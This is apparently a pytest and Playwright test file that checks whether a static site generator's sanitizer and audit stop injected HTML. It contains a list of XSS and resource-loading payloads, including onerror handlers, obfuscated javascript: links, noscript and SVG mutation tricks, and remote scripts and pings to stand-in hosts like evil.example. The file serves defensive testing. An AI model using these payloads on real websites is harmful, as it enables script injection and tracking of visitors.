"""The attack corpus built into a site and opened in Chromium: no injected script runs, and
no page asks another site for anything. The same attacks, in a page the generator did not
clean, do run: the test would see them."""

from __future__ import annotations

import shutil

import pytest
from conftest import TESTS, THEME_PAGE, THEME_SCRIPT, build_site, make_project, served
from playwright import sync_api as playwright

from generator.build.audit import audit_site

ATTACK_PAGE = TESTS / "fixtures" / "attacks" / "content" / "pages" / "about" / "fr.md"
PAGES = ["fr/about/", "fr/practices/test-border-practice/", "ar/practices/test-border-practice/",
         "fr/centres/test-centre/", "fr/organizations/test-body/"]


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    root = make_project(tmp_path_factory.mktemp("attacks") / "kb")
    shutil.copytree(TESTS / "fixtures" / "attacks", root, dirs_exist_ok=True)
    build_site(root, languages=("fr", "ar"))
    site = root / "site"
    # The hand-written attacks as raw HTML, as a browser would get them uncleaned.
    body = ATTACK_PAGE.read_text(encoding="utf-8").split("---\n", 2)[2]
    (site / "raw.html").write_text(f"<!doctype html><html><body>{body}</body></html>",
                                   encoding="utf-8")
    with served(site) as address:
        yield address


# What a reader might click that stays on the page or runs code: SVG texts and links,
# links to a place of the page (which send their ping) and links to javascript:.
CLICKED = ("article svg text, article svg a, article a[href^='#'], "
           "article a[href^='jav' i], article a[ping]")


def opened(browser, url: str) -> tuple[list[str], list[str]]:
    """The dialogs a page opened and the other sites it asked for, once loaded and what is
    CLICKED clicked (an injected href runs on click)."""
    page = browser.new_page()
    dialogs, elsewhere = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.route("**/*", lambda route: (
        route.continue_() if route.request.url.startswith(url.split("/", 3)[0] + "//127.0.0.1")
        else (elsewhere.append(route.request.url), route.abort())))
    try:
        page.goto(url, wait_until="load")
        try:
            for target in page.query_selector_all(CLICKED):
                target.click(no_wait_after=True, timeout=2000)
            page.wait_for_timeout(300)
        except playwright.Error:  # the page went elsewhere: the route saw where
            pass
    finally:
        page.close()
    return dialogs, elsewhere


@pytest.mark.parametrize("path", PAGES)
def test_no_injected_script_runs_and_nothing_is_fetched_elsewhere(site, browser, path):
    dialogs, elsewhere = opened(browser, f"{site}/{path}")
    assert dialogs == [] and elsewhere == []


def test_the_same_attacks_uncleaned_do_run(site, browser):
    dialogs, elsewhere = opened(browser, f"{site}/raw.html")
    assert "1" in dialogs and "4" in dialogs
    assert any("other.example" in url for url in elsewhere)


# Attacks of the audit's table (tests/test_security.py) that a browser runs or fetches with,
# in a page as the theme lays it out: (content, outside the content).
RUNS = [
    ("<script>alert(1)</script>", ""),
    ("", "<script>alert(1)</script>"),
    ("", '<script src="https://evil.example/x.js"></script>'),
    ("<img src=x onerror=alert(1)>", ""),
    ('<a href="jav&#x09;ascript:alert(1)">x</a>', ""),
    ('<iframe src="https://evil.example"></iframe>', ""),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', ""),
    ("<svg><style><img src=x onerror=alert(1)></style></svg>", ""),
    ("<svg><title><img src=x onerror=alert(1)></title></svg>", ""),
    ('<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=9 y=9>x</text>'
     "</a></svg>", ""),
    ('<img src="https://other.example/x.png">', ""),
    ('<img src="//other.example/x.png">', ""),
    ('<img src="../a.png" srcset="https://other.example/b.png 1x">', ""),
    ('<video poster="https://other.example/p.jpg"></video>', ""),
    ('<a href="#here" ping="https://other.example/track">x</a>', ""),
    ('<p style="background:url(https://other.example/t.gif)">x</p>', ""),
    ("", '<link rel="stylesheet" href="https://other.example/a.css">'),
    ("", "<style>@import 'https://other.example/a.css';</style>"),
    ("", '<meta http-equiv="refresh" content="0;url=https://other.example/">'),
]


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    folder = tmp_path_factory.mktemp("cases")
    for number, (content, outside) in enumerate(RUNS):
        page = folder / "en" / f"case-{number}" / "index.html"
        page.parent.mkdir(parents=True)
        page.write_text(THEME_PAGE.format(content=content, outside=outside,
                                          theme_script=THEME_SCRIPT.format()))
    with served(folder) as address:
        yield folder, address


@pytest.mark.parametrize("number", range(len(RUNS)), ids=[c or o for c, o in RUNS])
def test_what_the_audit_refuses_a_browser_runs(pages, browser, number):
    """Both ways: the audit refuses the page, and Chromium, given it, runs the script or
    asks another site for something. The audit's verdict rests on what a browser does."""
    folder, address = pages
    found = audit_site(folder, frozenset(), frozenset(), pattern=f"en/case-{number}/*.html")
    assert found, "the audit let it pass"
    dialogs, elsewhere = opened(browser, f"{address}/en/case-{number}/")
    assert dialogs or elsewhere, "the browser did nothing with it"
